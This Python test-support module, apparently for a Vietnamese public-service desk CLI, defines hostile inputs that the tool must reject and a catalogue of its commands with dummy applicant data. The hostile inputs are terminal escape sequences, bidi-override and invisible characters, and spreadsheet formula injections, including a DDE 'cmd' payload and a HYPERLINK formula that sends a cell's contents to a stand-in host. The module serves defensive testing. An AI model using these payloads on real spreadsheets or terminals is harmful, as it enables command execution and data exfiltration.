"""Text that means harm, and every command with a place for it: what the tests of hostile input share.

What may reach a terminal is judged by Python's own tables of Unicode, not by motcua's.
"""
import unicodedata

import desk

# What no stored text may hold, as bytes of a command line.
BAD = {
    "escape sequence": "Hương\x1b[31m\x1b]0;x\x07".encode(),
    "C1 as one byte": b"H\x9b31m",
    "C1 as UTF-8": "H\u009b31m\u0085".encode(),
    "line break and DEL": b"a\r\nb\x7fc",
    "overlong": b"H\xc0\xafx\xe0\x80\xaf",
    "surrogate": b"H\xed\xa0\x80x",
    "past the last": b"H\xf4\x90\x80\x80",
    "cut off": "Hươ".encode()[:-1],
    "bidi override": "Hương\u202egnp.exe\u2066".encode(),
    "hidden": "Hu\u200bong\ufeff\u00ad\U000e0041".encode(),
    "separators": "a\u2028b\u2029c".encode(),
    "no character": "a\ufffeb\U0010ffff".encode(),
}
# What spreadsheets would run.
FORMULAS = ["=cmd|'/c calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "'=1+1", "''@x", "＝1+1", "＋1", "－1", "＠x", '=HYPERLINK("http://x/?"&A1,"a")',
            "=1,2", '"=1"', "'quoted'"]
LEADS = tuple("=+-@\t\r\n＝＋－＠")


def acts(text):
    """The first character that could act on a terminal, hide or turn text around; None where there is none."""
    for c in text:
        if c != "\n" and unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp"):
            return hex(ord(c))
    return None


# Every command, whole and right, on a dossier {open}. `*`: what is put there is no text to be stored.
RECEIVE = ["receive", "--procedure", desk.MARRIAGE, "--applicant", desk.NAME, "--phone", "0912345678", "--id-number", "001199001234", "--address",
           "Thôn 2", "--email", "a@example.vn", "--submitter", "Lê Văn Tám", "--authority", "Giấy ủy quyền", "--channel", "direct", "--component",
           "Tờ khai", "--sets", "1", "--collect", "desk", "--fee", "0", "--note", "Ghi chú", "--unit", "Tổ 1", "--submitted",
           "2026-11-16T08:00", "--at", "2026-11-16T08:30", "--code", "X-0001", "--officer", "nam"]
COMMANDS = [
    RECEIVE,
    ["transfer", "{open}", "--to", "nam", "--unit", "Tổ 2", "--step", "Thẩm định", "--within", "1 working_days", "--note", "n"],
    ["supplement", "{open}", "--reason", "thiếu", "--need", "Tờ khai"],
    ["restart", "{open}", "--note", "đủ"],
    ["await-payment", "{open}", "--note", "phí"],
    ["paid", "{open}", "--within", "3 working_days"],
    ["apologize", "{open}", "--reason", "chậm", "--until", "2026-11-25", "--signer", "Trần B", "--unit", "Tổ 3"],
    ["resolve", "{open}", "--result", "GP-01"],
    ["return", "{open}", "--channel", "direct", "--to", "Lê Văn Tám"],
    ["refuse", "{open}", "--reason", "không đủ"],
    ["withdraw", "{open}", "--reason", "xin rút"],
    ["stop", "{open}", "--reason", "xin dừng"],
    ["void", "{open}", "--reason", "nhầm"],
    ["undo", "{open}", "--reason", "nhầm"],
    ["correct", "{open}", "phone=0912345679", "--reason", "nhầm"],
    ["correct", "{open}", "address=Thôn 3", "applicant=Hoa", "--reason", "nhầm"],
    ["rate", "{open}", "5", "--note", "tốt"],
    ["fee", "{open}", "--amount", "5000", "--document", "0001"],
    ["fee", "{open}", "--exempt", "--reason", "hộ nghèo"],
    ["turn-away", "--procedure", desk.MARRIAGE, "--applicant", desk.NAME, "--need", "Tờ khai", "--reason", "thiếu", "--phone", "0912345678", "--id-number",
     "001199001234", "--address", "Thôn 2", "--email", "a@example.vn", "--submitter", "Lê Văn Tám", "--at", "2026-11-16T08:30"],
    ["turn-away", "list", "--from", "2026-11-01", "--to", "2026-11-30", "--as-of", "2026-11-16T08:00"],
    ["procedure", "steps", desk.MARRIAGE, "--step", "Thẩm định; specialist; 1 working_days"],
    ["show", "{open}"],
    ["explain", "{open}"],
    ["due", "--procedure", desk.MARRIAGE, "--received", "2026-11-16", "--clock", "day_end"],
    ["due", "--limit", "3 working_days", "--received", "2026-11-16"],
    ["list", "--status", "open", "--officer", "nam", "--field", "Hộ tịch", "--procedure", desk.MARRIAGE, "--unit", "Tổ 1", "--received",
     "2026-11-01..", "--due", "..2026-12-01", "--sort", "due", "--max", "5", "--as-of", "2026-11-16T08:00"],
    ["search", "Hương", "--max", "3"],
    ["morning", "--as-of", "2026-11-16T08:00"],
    ["morning", "--mail", "chutich@xa.example", "--as-of", "2026-11-16T08:00"],
    ["report", "ii06a", "--from", "2026-11-01", "--to", "2026-11-30", "--as-of", "2026-11-16T08:00"],
    ["report", "survey", "--period", "2026-11", "--size", "3", "--seed", "7"],
    ["procedure", "list"],
    ["procedure", "show", desk.MARRIAGE],
    ["procedure", "put", "9.1", "--name", "Thủ tục", "--field", "Lĩnh vực", "--limit", "3 working_days", "--clock", "day_end", "--fee", "0",
     "--online", "full", "--postal", "yes"],
    ["procedure", "retire", "9.1"],
    ["officer", "list"],
    ["officer", "put", "lan", "--name", "Lan", "--role", "chief", "--unit", "U", "--title", "T"],
    ["officer", "retire", "lan"],
    ["calendar", "show", "2026"],
    ["calendar", "holiday", "2026-12-07", "Nghỉ", "--document", "01/QĐ"],
    ["calendar", "worked", "2026-12-12", "Làm bù", "--document", "01/QĐ"],
    ["calendar", "closed", "2026-12-08", "Đóng cửa", "--document", "01/QĐ"],
    ["calendar", "remove", "2026-12-08"],
    ["calendar", "hours", "07:00-11:30,13:30-17:00", "--weekdays", "1-5", "--from", "2026-12-14"],
    ["config", "office.name", "UBND"],
    ["config", "soon.days", "2"],
    ["export", "ics", "--status", "open", "--officer", "nam", "--as", "event", "--alarm", "1d"],
    ["stat"],
]


def slots(command):
    """The places of a command line where somebody's text stands."""
    return [i for i, word in enumerate(command) if i and not word.startswith("--")]
